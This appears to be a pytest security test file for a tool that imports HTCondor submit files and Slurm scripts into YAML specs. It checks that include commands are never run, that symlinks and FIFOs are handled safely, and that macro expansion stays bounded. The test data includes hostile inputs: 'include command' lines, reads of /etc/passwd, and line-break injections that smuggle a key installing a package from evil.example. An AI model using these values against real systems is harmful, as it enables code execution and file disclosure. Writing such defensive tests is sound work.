"""init, status and results on files someone else wrote (issue #19): nothing in a submit file is
executed or included, no foreign text becomes live spec text, nothing is written through a link,
and every bad value is reported with its line instead of crashing."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
from ruamel.yaml import YAML

from tests.conftest import REPO, run_cli

BASE = """\
executable = run.sh
request_cpus = 1
request_memory = 2GB
"""


def _canary(tmp_path: Path) -> Path:
    return tmp_path.parent / f"{tmp_path.name}-PWNED"


# Every spelling of HTCondor's include that executes a command or reads a file.
INCLUDES = [
    "include command : touch {canary}",
    "include : touch {canary} |",
    "INCLUDE COMMAND : touch {canary}",
    "include command into out.txt : touch {canary}",
    "include ifexist : /etc/passwd",
    "include : /etc/passwd",
    "Include:/etc/passwd",
    "inc\\\nlude command : touch {canary}",
    "include \\\ncommand : touch {canary}",
    "if true\ninclude command : touch {canary}\nendif",
    "if defined X\nrequest_cpus = 2\nelse\nrequest_cpus = 3\nendif",
]


@pytest.mark.parametrize("line", INCLUDES)
def test_init_never_runs_or_reads_an_include(tmp_path: Path, line: str) -> None:
    canary = _canary(tmp_path)
    text = BASE + line.format(canary=canary) + "\nqueue\n"
    (tmp_path / "job.sub").write_text(text)
    result = run_cli("init", "--from", "job.sub", cwd=tmp_path)
    assert result.returncode == 2, result.stderr
    assert not canary.exists() and not (tmp_path / "out.txt").exists()
    assert not (tmp_path / "specs").exists()  # nothing written
    # Located: the line where the include (or conditional) starts.
    assert f"job.sub:{BASE.count(chr(10)) + 1}: " in result.stderr
    assert "root:" not in result.stdout + result.stderr  # /etc/passwd never read into anything


def test_status_and_results_never_parse_an_edited_sub(project_dir: Path) -> None:
    """build/ arrives in pull requests: an include added to a committed .sub is never run."""
    canary = _canary(project_dir)
    assert run_cli("build", cwd=project_dir).returncode == 0
    for sub in (project_dir / "build" / "htcondor").glob("*.sub"):
        sub.write_text(f"include command : touch {canary}\n" + sub.read_text())
    for command in (["status", "--no-schedd"], ["results", "--no-plots"], ["submit", "--dry-run"]):
        run_cli(*command, cwd=project_dir)
        assert not canary.exists(), command


def _spec(root: Path) -> dict:
    return YAML(typ="safe").load((root / "specs" / "project.yaml").read_text())


@pytest.mark.parametrize("breaker", ["\n", "\r", "\u2028", "\u0085", "\u2029", "\x1b[2J"])
def test_foreign_text_never_becomes_live_spec_text(tmp_path: Path, breaker: str) -> None:
    """A value init cannot carry is quoted in the spec's header; a line break in it must not end the
    comment (the rest would be live YAML: here a `ci` key that installs from an attacker's URL)."""
    evil = f"1.5{breaker}ci: {{pixi_htc: 'https://evil.example/x.whl'}}"
    (tmp_path / "job.sub").write_text(BASE + f"request_gpus = {evil}\nqueue\n")
    result = run_cli("init", "--from", "job.sub", cwd=tmp_path)
    if breaker == "\n":  # a new line of the submit file, and not a command: located, nothing written
        assert result.returncode == 2 and "job.sub:5: not a submit command" in result.stderr
        assert not (tmp_path / "specs").exists()
        return
    assert result.returncode == 0, result.stderr
    spec = _spec(tmp_path)
    assert set(spec) == {"schema_version", "name", "source", "jobs"}
    assert "job.sub:4: request_gpus = 1.5" in (tmp_path / "specs" / "project.yaml").read_text()
    for raw in ("\r", "\u2028", "\u0085", "\x1b"):
        assert raw not in result.stderr + result.stdout


def test_a_file_name_with_a_line_break_stays_in_its_comment(tmp_path: Path) -> None:
    name = "x\nci:\n  pixi_htc: evil\n.sub"
    (tmp_path / name).write_text(BASE + "queue\n")
    result = run_cli("init", "--from", name, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "ci" not in _spec(tmp_path)


def test_numbers_that_are_not_numbers_are_reported_with_their_line(tmp_path: Path) -> None:
    text = ("executable = run.sh\nrequest_cpus = $(n)\nrequest_gpus = 1.5\nmax_retries = $(r)\n"
            "checkpoint_exit_code = eighty-five\ngpus_minimum_capability = $(cap)\nqueue n in (1 2)\n")
    (tmp_path / "job.sub").write_text(text)
    result = run_cli("init", "--from", "job.sub", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    for line, key in ((2, "request_cpus"), (3, "request_gpus"), (4, "max_retries"), (5, "checkpoint_exit_code"),
                      (6, "gpus_minimum_capability")):
        assert f"not carried over: job.sub:{line}: {key} = " in result.stderr
    job = _spec(tmp_path)["jobs"]["job"]
    assert job["sweep"] == {"n": ["1", "2"]} and job["resources"] == {"gpus": 0}


def test_macros_are_expanded_once_and_bounded(tmp_path: Path) -> None:
    """Nested macros that double at each level: 2**40 characters if expanded naively."""
    names = [f"m{i}" for i in range(41)]
    lines = [f"{a} = $({b})$({b})" for a, b in zip(names, names[1:])] + [f"{names[-1]} = x"]
    text = "executable = run.sh\n" + "\n".join(lines) + "\narguments = $(m0) $(who:world) $ENV(HOME)\nqueue\n"
    (tmp_path / "job.sub").write_text(text)
    result = subprocess.run([sys.executable, "-m", "compiler", "init", "--from", "job.sub"], cwd=tmp_path,
                            capture_output=True, text=True, env={**os.environ, "PYTHONPATH": str(REPO)},
                            timeout=60, check=False)
    assert result.returncode == 0, result.stderr
    assert "its expansion is over" in result.stderr
    command = _spec(tmp_path)["jobs"]["job"]["command"]
    assert command[:2] == ["sh", "run.sh"] and "world" in command  # $(name:default) takes its default
    assert os.environ.get("HOME", "/root") not in command  # $ENV() is never evaluated
    assert (tmp_path / "specs" / "project.yaml").stat().st_size < 200_000


def test_a_self_referencing_macro_stays_as_written(tmp_path: Path) -> None:
    (tmp_path / "job.sub").write_text("executable = run.sh\na = $(b)\nb = $(a)\narguments = $(a)\nqueue\n")
    result = run_cli("init", "--from", "job.sub", cwd=tmp_path)
    assert result.returncode == 0, result.stderr


def test_init_never_writes_through_a_linked_specs_directory(tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    project = tmp_path / "project"
    elsewhere.mkdir()
    project.mkdir()
    (project / "specs").symlink_to(elsewhere)
    result = run_cli("init", cwd=project)
    assert result.returncode == 2 and "symbolic link" in result.stderr
    assert list(elsewhere.iterdir()) == []
    (project / "specs").unlink()
    (project / "specs").mkdir()
    (project / "specs" / "project.schema.json").symlink_to(elsewhere / "target.json")
    result = run_cli("init", cwd=project)
    assert result.returncode == 2 and list(elsewhere.iterdir()) == []


def test_init_from_a_fifo_does_not_block(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "job.sub")
    result = subprocess.run([sys.executable, "-m", "compiler", "init", "--from", "job.sub"], cwd=tmp_path,
                            capture_output=True, text=True, env={**os.environ, "PYTHONPATH": str(REPO)},
                            timeout=60, check=False)
    assert result.returncode == 2 and "named pipe" in result.stderr


@pytest.mark.parametrize("name", ["job.submit", "job.cmd", "job.condor", "job.jdl", "submit"])
def test_a_submit_file_is_read_whatever_its_name(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_text(BASE + "queue\n")
    result = run_cli("init", "--from", name, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert _spec(tmp_path)["jobs"]


def test_a_huge_inline_queue_table_is_judged_without_its_product(tmp_path: Path) -> None:
    """Rows of distinct values in three columns: the product would be rows**3 combinations."""
    rows = "\n".join(f"a{i}, b{i}, c{i}" for i in range(20_000))
    (tmp_path / "job.sub").write_text(BASE + f"arguments = $(x) $(y) $(z)\nqueue x, y, z from (\n{rows}\n)\n")
    result = subprocess.run([sys.executable, "-m", "compiler", "init", "--from", "job.sub"], cwd=tmp_path,
                            capture_output=True, text=True, env={**os.environ, "PYTHONPATH": str(REPO)},
                            timeout=120, check=False)
    assert result.returncode == 0, result.stderr
    job = _spec(tmp_path)["jobs"]["job"]
    assert job["sweep_from"] == {"file": "specs/job.queue.txt", "variables": ["x", "y", "z"]}
    assert (tmp_path / "specs" / "job.queue.txt").read_text().splitlines()[-1] == "a19999, b19999, c19999"


def test_queue_matching_lists_only_the_project_never_through_a_link(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.csv").write_text("x\n")
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    (repo / "linked").symlink_to(outside)
    (repo / "run.sh").write_text("echo\n")
    (repo / "a.csv").write_text("a\n")
    for pattern, said in (("../outside/*.csv", "outside the project"), ("linked/*.csv", "symbolic link"),
                          ("*/*.csv", "a wildcard in a directory")):
        (repo / "job.sub").write_text(BASE + f"arguments = $(f)\nqueue f matching files {pattern}\n")
        result = run_cli("init", "--from", "job.sub", cwd=repo)
        assert result.returncode == 0, result.stderr
        spec = (repo / "specs" / "project.yaml").read_text()
        assert said in result.stderr and "secret" not in spec, (pattern, result.stderr)
        for name in ("project.yaml", "project.schema.json"):
            (repo / "specs" / name).unlink()


def test_a_slurm_script_links_no_file_from_outside_the_project(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "data.csv").write_text("x\n")
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    (repo / "shared").symlink_to(outside)
    (repo / "train.py").write_text("print(1)\n")
    (repo / "job.sh").write_text("#!/bin/bash\n#SBATCH --gres=gpu:1\npython train.py --data shared/data.csv "
                                 "--ref ../outside/data.csv /etc/passwd ~/x\n")
    result = run_cli("init", "--from", "job.sh", cwd=repo)
    assert result.returncode == 0, result.stderr
    spec = YAML(typ="safe").load((repo / "specs" / "project.yaml").read_text())
    assert spec["source"] == ["job.sh", "train.py"]
